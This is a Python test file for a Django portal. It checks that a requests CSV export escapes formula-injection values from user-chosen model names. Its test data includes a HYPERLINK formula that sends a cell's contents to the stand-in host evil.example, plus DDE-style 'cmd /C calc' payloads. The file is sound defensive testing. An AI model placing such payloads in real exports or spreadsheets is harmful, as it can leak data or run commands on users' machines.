"""The requests CSV export never hands a spreadsheet a formula (issue #13, item 12).

A client chooses the model name (and a 404 for an unknown model still writes a ledger row), so
`=HYPERLINK(...)` arrives in the ledger through the API. Every text cell that starts with
= + - @, a tab or a CR is prefixed with a quote (OWASP's advice); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.test import Client

from optimizer.models import RequestLog
from tests.conftest import TenantKit, wait_for_rows
from tests.portal_helpers import make_ledger_row
from tests.writes_settled import writes_settled  # noqa: F401  (autouse fixture)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _export(kit: TenantKit, query: str = "") -> list[dict[str, str]]:
    client = Client()
    client.force_login(kit.owner)
    response = client.get("/portal/requests/export.csv" + query)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_in_a_model_name_is_escaped_in_the_export(kit: TenantKit) -> None:
    with kit.http() as http:
        r = http.post("/v1/chat/completions", json={"model": EVIL, "messages": [{"role": "user", "content": "hi"}]})
        assert r.status_code == 404
    [logged] = wait_for_rows(RequestLog, 1, tenant=kit.tenant, request_id=r.headers["x-leo-request-id"])
    assert logged.model == EVIL
    for start in ("+", "-", "@", "\t", "\r"):
        make_ledger_row(kit.tenant, kit.api_key, model=start + "cmd|' /C calc'!A0", served_model=start + "x",
                        error_code=start + "e", saved_usd=Decimal("-0.00002"))
    rows = _export(kit)
    assert len(rows) == 6
    text_columns = ("request_id", "key_prefix", "endpoint", "model", "served_model", "technique", "error_code")
    for row in rows:
        for column in text_columns:
            assert not row[column][:1] in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
    assert {r["model"] for r in rows} >= {"'" + EVIL, "'+cmd|' /C calc'!A0", "'\tcmd|' /C calc'!A0"}
    # A negative figure is a number, not text: it is written as is.
    assert [Decimal(r["saved_usd"]) for r in rows if r["model"].startswith("'+")] == [Decimal("-0.00002")]


def test_csv_cell() -> None:
    from optimizer.portal.views import csv_cell  # imported here so the export test above runs without it

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("gpt-4o-mini") == "gpt-4o-mini" and csv_cell("") == ""
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell(-3) == -3
